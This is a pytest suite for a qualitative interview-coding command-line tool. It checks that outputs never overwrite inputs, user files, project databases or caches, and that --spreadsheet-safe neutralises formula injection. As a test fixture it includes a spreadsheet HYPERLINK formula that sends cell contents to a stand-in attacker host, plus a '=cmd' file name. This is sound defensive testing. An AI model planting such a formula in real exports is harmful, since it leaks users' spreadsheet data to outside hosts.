"""Outputs never destroy what qualcode did not write: an --out folder of someone else's files, an input, the
project, the cache (issue 14, items 1 and 2). Every test here fails on the version that removed the previous
output folder whole and wrote any output path it was given."""

from __future__ import annotations

import json
import sqlite3
import sys

import pytest
from typer.testing import CliRunner

import qualcode as qc
from qualcode.cli.app import app, main
from qualcode.model.errors import OutputError
from qualcode.model.files import refuse_database, write_atomic_path
from qualcode.run.outputs import check_output_folder, write_outputs

runner = CliRunner()
TEXT = "I: Do parents come?\nR: Hardly any parents come to the coffee mornings, we have no time.\n"


@pytest.fixture
def interviews(tmp_path):
    folder = tmp_path / "interviews"
    folder.mkdir()
    (folder / "a.txt").write_text(TEXT, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def result():
    from qualcode.ingest.structure import build_transcript
    from qualcode.model.transcript import Block, RawDocument

    transcript = build_transcript(RawDocument([Block(TEXT.strip(), kind="paragraph")], "txt"), "a", language="en")
    return qc.Coder().code(qc.Corpus([transcript]))


def _snapshot(folder):
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("where", ["same", "parent"])
def test_an_out_folder_holding_the_inputs_is_refused_before_reading(interviews, where):
    out = interviews if where == "same" else interviews.parent
    before = _snapshot(interviews.parent)
    run = runner.invoke(app, ["code", str(interviews), "--out", str(out), "--no-cache"])
    assert run.exit_code == 2
    assert "would hold the input" in run.output and "Coded" not in run.output
    assert _snapshot(interviews.parent) == before


def test_an_out_folder_of_the_users_files_is_refused_and_kept(interviews, tmp_path):
    documents = tmp_path / "Documents"
    documents.mkdir()
    (documents / "thesis.docx").write_bytes(b"my thesis")
    run = runner.invoke(app, ["code", str(interviews), "--out", str(documents), "--no-cache"])
    assert run.exit_code == 2 and "'thesis.docx'" in run.output
    assert (documents / "thesis.docx").read_bytes() == b"my thesis"


def test_a_project_inside_the_out_folder_survives_the_second_run(interviews, tmp_path):
    out = tmp_path / "results"
    project = out / "study.qcproj"
    out.mkdir()
    with qc.open_project(project) as opened:
        opened.add_documents(qc.read_corpus(interviews))
        opened.add_coding("a", "trust", coder="Ana", new_code=True, start=0, end=5)
    run = runner.invoke(app, ["code", str(interviews), "--out", str(out), "--project", str(project), "--no-cache"])
    assert run.exit_code == 2 and "study.qcproj" in run.output
    with qc.open_project(project) as opened:
        assert len(opened.codings("Ana")) == 1


def test_the_cache_inside_the_out_folder_is_refused(interviews, tmp_path):
    out = tmp_path / "results"
    run = runner.invoke(app, ["code", str(interviews), "--out", str(out), "--cache-dir", str(out / "cache")])
    assert run.exit_code == 2 and "cache" in run.output


def test_an_out_that_is_a_file_is_refused_before_reading(interviews, tmp_path):
    out = tmp_path / "results.csv"
    out.write_text("mine", encoding="utf-8")
    run = runner.invoke(app, ["code", str(interviews), "--out", str(out), "--no-cache"])
    assert run.exit_code == 2 and "is not a folder" in run.output and "Coded" not in run.output
    assert out.read_text(encoding="utf-8") == "mine"


def test_the_manifest_lists_every_file_and_a_previous_output_folder_is_replaced(result, tmp_path):
    out = tmp_path / "out"
    write_outputs(result, out)
    files = json.loads((out / "run.json").read_text(encoding="utf-8"))["files"]
    assert files == sorted(p.name for p in out.iterdir())
    write_outputs(result, out)  # its own outputs: replaced
    assert sorted(p.name for p in out.iterdir()) == files


def test_an_entry_outside_the_manifest_stops_the_run_and_stays(result, tmp_path):
    out = tmp_path / "out"
    write_outputs(result, out)
    (out / "theme_by_role.csv").write_text("added by hand", encoding="utf-8")  # a name qualcode could write
    with pytest.raises(OutputError, match=r"theme_by_role\.csv"):
        write_outputs(result, out)
    assert (out / "theme_by_role.csv").read_text(encoding="utf-8") == "added by hand"


def test_a_folder_written_before_manifests_is_recognised_by_its_names(tmp_path):
    legacy = tmp_path / "old"
    legacy.mkdir()
    for name in ("segments.csv", "codings.csv", "run.json", "theme_by_role.png", "report.html"):
        (legacy / name).write_text("{}", encoding="utf-8")
    check_output_folder(legacy)
    (legacy / "sub").mkdir()
    with pytest.raises(OutputError, match="'sub'"):
        check_output_folder(legacy)


def test_replacing_outputs_deletes_only_what_the_manifest_lists(result, tmp_path, monkeypatch):
    from qualcode.run import outputs
    out = tmp_path / "out"
    write_outputs(result, out)
    real_swap = outputs._swap

    def swap_then_a_file_appears(staging, folder):  # someone saves a file there while the run writes
        (folder / "late.txt").write_text("mine", encoding="utf-8")
        real_swap(staging, folder)

    monkeypatch.setattr(outputs, "_swap", swap_then_a_file_appears)
    write_outputs(result, out)
    leftovers = list(tmp_path.rglob("late.txt"))
    assert len(leftovers) == 1 and leftovers[0].read_text(encoding="utf-8") == "mine"


def test_a_link_as_out_is_refused(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(OutputError, match="is a link"):
        check_output_folder(tmp_path / "link")


@pytest.fixture
def project(interviews, tmp_path):
    path = tmp_path / "study.qcproj"
    with qc.open_project(path) as opened:
        opened.code(qc.Coder(), qc.read_corpus(interviews))
        opened.add_coding("a", "trust", coder="Ana", new_code=True, start=0, end=5)
    return path


def _main(monkeypatch, *args):
    monkeypatch.setattr(sys, "argv", ["qualcode", *map(str, args)])
    with pytest.raises(SystemExit) as exited:
        main()
    return exited.value.code


@pytest.mark.parametrize("command", [
    ["report", "--project", "{p}", "--out", "{p}"],
    ["project", "codings", "{p}", "--output", "{p}"],
    ["project", "codings", "{p}", "--output", "{p}-wal"],
    ["agree", "--project", "{p}", "Ana", "auto:qualcode-default", "--output", "{p}"],
    ["evaluate", "--project", "{p}", "--auto", "auto:qualcode-default", "--human", "Ana", "--output", "{p}"],
    ["evaluate", "--project", "{p}", "--auto", "auto:qualcode-default", "--human", "Ana", "--passages", "{p}-shm"],
    ["export", "{p}", "--project", "{p}", "--format", "qdpx"],
])
def test_no_output_overwrites_the_project(project, monkeypatch, capsys, command):
    before = project.read_bytes()
    status = _main(monkeypatch, *(part.replace("{p}", str(project)) for part in command))
    assert status == 2
    assert "project database" in capsys.readouterr().err
    assert project.read_bytes() == before
    with qc.open_project(project) as opened:
        assert len(opened.codings("Ana")) == 1


def test_refuse_database_knows_a_database_by_its_contents(tmp_path):
    other = tmp_path / "anything.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    with pytest.raises(OutputError):
        refuse_database(other)
    with pytest.raises(OutputError):
        write_atomic_path(tmp_path / "anything.db-shm", lambda p: p.write_text("x"))
    plain = tmp_path / "notes.csv"
    plain.write_text("a,b\n", encoding="utf-8")
    write_atomic_path(plain, lambda p: p.write_text("c,d\n", encoding="utf-8"))
    assert plain.read_text(encoding="utf-8") == "c,d\n"


# --- spreadsheet formula injection (issue 14, item 10) ----------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1, "see")'


def test_output_tables_keep_exact_text_unless_asked_to_be_spreadsheet_safe(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=cmd.txt").write_text(f"I: {HOSTILE}\nR: Parents trust us, we have no time.\n", encoding="utf-8")
    import csv as csvlib

    def cells(folder, name):
        with open(tmp_path / folder / name, encoding="utf-8", newline="") as handle:
            return [cell for row in csvlib.reader(handle) for cell in row]

    assert qc.code_folder(folder, out=tmp_path / "exact", jobs=1, speakers="all").complete
    assert HOSTILE in cells("exact", "segments.csv") and "=cmd" in cells("exact", "documents.csv")
    qc.code_folder(folder, out=tmp_path / "safe", jobs=1, spreadsheet_safe=True, speakers="all")
    for name in ("segments.csv", "codings.csv", "evidence.csv", "documents.csv", "theme_frequency.csv"):
        assert not [c for c in cells("safe", name) if c[:1] in ("=", "+", "@")], name
    assert "'" + HOSTILE in cells("safe", "segments.csv") and "'=cmd" in cells("safe", "documents.csv")


def test_attributes_that_share_a_file_name_are_refused(result, tmp_path):
    with pytest.raises(ValueError, match=r"would all be written to theme_by_a_b\.csv"):
        write_outputs(result, tmp_path / "out", by=("a b", "a_b"))
    assert not (tmp_path / "out").exists()


# --- an output that cannot be written (issue 14, item 12) ------------------------------------------------

UNWRITABLE = {
    "a folder": lambda tmp: tmp / "folder",  # a folder where the output file is expected
    "under a file": lambda tmp: tmp / "notes.txt" / "out.csv",  # a file where its folder is expected
    "in /proc": lambda tmp: "/proc/qualcode-out.csv",  # a folder that takes no new files
}


@pytest.mark.parametrize("where", list(UNWRITABLE))
@pytest.mark.parametrize("command", [
    ["report", "--project", "{p}", "--out", "{o}"],
    ["project", "codings", "{p}", "--output", "{o}"],
    ["project", "documents", "{p}", "--output", "{o}"],
    ["agree", "--project", "{p}", "Ana", "auto:qualcode-default", "--output", "{o}"],
    ["evaluate", "--project", "{p}", "--auto", "auto:qualcode-default", "--human", "Ana", "--passages", "{o}"],
    ["export", "{o}", "--project", "{p}", "--format", "qdpx"],
    ["export", "{o}", "--project", "{p}", "--format", "csv"],
    ["project", "review-export", "{p}", "{o}", "--coder", "Bo"],
    ["code", "{i}", "--out", "{o}", "--no-cache", "--no-similarity", "--jobs", "1"],
])
def test_an_output_that_cannot_be_written_is_named_with_status_1(project, interviews, tmp_path, monkeypatch,
                                                                  capsys, command, where):
    if where == "in /proc" and not __import__("os").path.isdir("/proc/self"):
        pytest.skip("no /proc here (not Linux)")
    (tmp_path / "folder").mkdir()
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    target = str(UNWRITABLE[where](tmp_path))
    if where == "a folder" and (command[0] == "code" or "review-export" in command):
        pytest.skip("an empty folder is a valid --out; review-export's argument refuses a folder (usage, 2)")
    if command[0] == "code":
        target = target.replace(".csv", "")
    if command[0] == "export" and "csv" not in command and where != "a folder":
        target = target.replace(".csv", ".qdpx")
    before = _snapshot(tmp_path)
    status = _main(monkeypatch, *(p.replace("{p}", str(project)).replace("{o}", target).replace("{i}", str(interviews))
                                  for p in command))
    err = capsys.readouterr().err
    assert status == 1, err
    assert f"cannot write {target}" in err and "bug" not in err, err
    after = _snapshot(tmp_path)
    assert {k: v for k, v in after.items() if not k.startswith("study.qcproj")} == \
        {k: v for k, v in before.items() if not k.startswith("study.qcproj")}  # nothing left beside it


@pytest.mark.parametrize(("error", "said"), [(28, "the disk is full"), (30, "the file system is read-only"), (13, "permission denied")])
def test_a_failing_write_says_why_and_keeps_the_previous_file(tmp_path, monkeypatch, error, said):
    import errno
    import os

    from qualcode.model.errors import WriteError

    previous = tmp_path / "table.csv"
    previous.write_text("old\n", encoding="utf-8")
    cls = PermissionError if error == errno.EACCES else OSError

    def fail(*args):
        raise cls(error, os.strerror(error))

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(WriteError, match=f"cannot write {previous}: {said}") as raised:
        write_atomic_path(previous, lambda p: p.write_text("new\n", encoding="utf-8"))
    assert raised.value.exit_status == 1
    assert previous.read_text(encoding="utf-8") == "old\n" and [p.name for p in tmp_path.iterdir()] == ["table.csv"]


@pytest.fixture
def hostile_project(tmp_path):
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "a.txt").write_text(f"I: Do parents come?\nR: {HOSTILE} Parents trust us.\n", encoding="utf-8")
    path = tmp_path / "hostile.qcproj"
    with qc.open_project(path) as opened:
        opened.code(qc.Coder(speakers="all"), qc.read_corpus(folder))
        text = opened.transcript("a").text
        start = text.index(HOSTILE)
        opened.add_coding("a", "trust", coder="Ana", start=start, end=start + len(HOSTILE))
    return path


@pytest.mark.parametrize("command", [
    ["project", "codings", "{p}", "--output", "{o}"],
    ["project", "unplaced", "{p}", "--output", "{o}"],
    ["agree", "--project", "{p}", "Ana", "auto:qualcode-default", "--output", "{o}"],
    ["evaluate", "--project", "{p}", "--auto", "auto:qualcode-default", "--human", "Ana", "--passages", "{o}"],
])
def test_project_tables_are_spreadsheet_safe_when_asked(hostile_project, tmp_path, command):
    """--spreadsheet-safe for every table a project command writes (issue 14, item 10): exact text by
    default, a quote before a would-be formula with the flag."""
    import csv as csvlib

    def cells(name, *extra):
        args = [part.replace("{p}", str(hostile_project)).replace("{o}", str(tmp_path / name)) for part in command]
        run = runner.invoke(app, [*args, *extra])
        assert run.exit_code == 0, run.output
        with open(tmp_path / name, encoding="utf-8", newline="") as handle:
            return [cell for row in csvlib.reader(handle) for cell in row]

    exact, safe = cells("exact.csv"), cells("safe.csv", "--spreadsheet-safe")
    assert not [c for c in safe if c[:1] in ("=", "+", "@")]
    assert len(exact) == len(safe)
    if command[1] == "codings":
        assert any(c.startswith(HOSTILE) for c in exact) and any(c.startswith("'" + HOSTILE) for c in safe)
    if "evaluate" in command:
        assert any(HOSTILE in c for c in exact)


def test_suggest_takes_spreadsheet_safe():
    run = runner.invoke(app, ["suggest", "--help"])
    assert "--spreadsheet-safe" in run.output
